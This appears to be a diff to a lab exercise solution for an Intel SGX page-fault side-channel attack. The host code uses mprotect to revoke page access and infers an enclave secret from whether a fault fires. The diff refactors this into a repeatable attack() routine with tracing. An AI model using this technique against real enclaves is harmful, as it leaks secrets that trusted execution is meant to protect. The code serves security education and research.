@@ -6,21 +6,9 @@
 
 /* SGX untrusted runtime */
 #include <sgx_urts.h>
+#include "enclave.h"
 #include "Enclave/encl_u.h"
 
-sgx_enclave_id_t create_enclave(void)
-{
-    sgx_launch_token_t token = {0};
-    int updated = 0;
-    sgx_enclave_id_t eid = -1;
-
-    info_event("Creating enclave...");
-    SGX_ASSERT( sgx_create_enclave( "./Enclave/encl.so", /*debug=*/1,
-                                    &token, &updated, &eid, NULL ) );
-
-    return eid;
-}
-
 int fault_fired = 0;
 void *a_pt = NULL;
 
@@ -37,15 +25,11 @@ void fault_handler(void *base_adrs)
     fault_fired++;
 }
 
-int main( int argc, char **argv )
+void attack(sgx_enclave_id_t eid)
 {
-    sgx_enclave_id_t eid = create_enclave();
     int rv = 1, secret = 1;
 
-    /* ---------------------------------------------------------------------- */
-    info("registering fault handler..");
-    register_fault_handler(fault_handler);
-
+    fault_fired = 0;
     SGX_ASSERT( ecall_get_a_adrs(eid, &a_pt) );
     info("a at %p\n", a_pt);
 
@@ -56,6 +40,7 @@ int main( int argc, char **argv )
     // mark the page as NOT_ACCESSIBLE, this will invoke page fault on accessing a while doing a+=1
     mprotect(a_pt, 0x1000, PROT_NONE);
     ecall_inc_secret(eid, secret);
+    pf_trace_dump();
 
     if(fault_fired == 1){
         info("secret = 1");
@@ -76,6 +61,7 @@ int main( int argc, char **argv )
     // but will not invoke page fault for b=a as it needs read access which is already given
     mprotect(a_pt, 0x1000, PROT_READ);
     ecall_inc_secret_maccess(eid, secret);
+    pf_trace_dump();
 
     if(fault_fired == 1){
         info("secret = 1");
@@ -85,9 +71,33 @@ int main( int argc, char **argv )
     }
     /* =========================== END SOLUTION =========================== */
 
+}
+
+int main( int argc, char **argv )
+{
+    int runs = (argc > 2 && !strcmp(argv[1], "-r")) ? atoi(argv[2]) : 1;
+    int flags = ENCLAVE_DEFAULT_FLAGS, run;
+    sgx_enclave_id_t eid;
+
+    /* -r N: repeat the experiment N times on one enclave instance, which
+       stays alive across the runs instead of being re-created */
+    if (runs > 1)
+        flags |= ENCLAVE_PERSIST;
+
+    /* ---------------------------------------------------------------------- */
+    info("registering fault handler..");
+    register_fault_handler(fault_handler);
+
+    for (run=0; run < runs; run++)
+    {
+        eid = enclave_open("./Enclave/encl.so", flags);
+        attack(eid);
+        enclave_close( eid );
+    }
+
     /* ---------------------------------------------------------------------- */
     info_event("destroying SGX enclave");
-    SGX_ASSERT( sgx_destroy_enclave( eid ) );
+    enclave_close_all();
 
     info("all is well; exiting..");
 	return 0;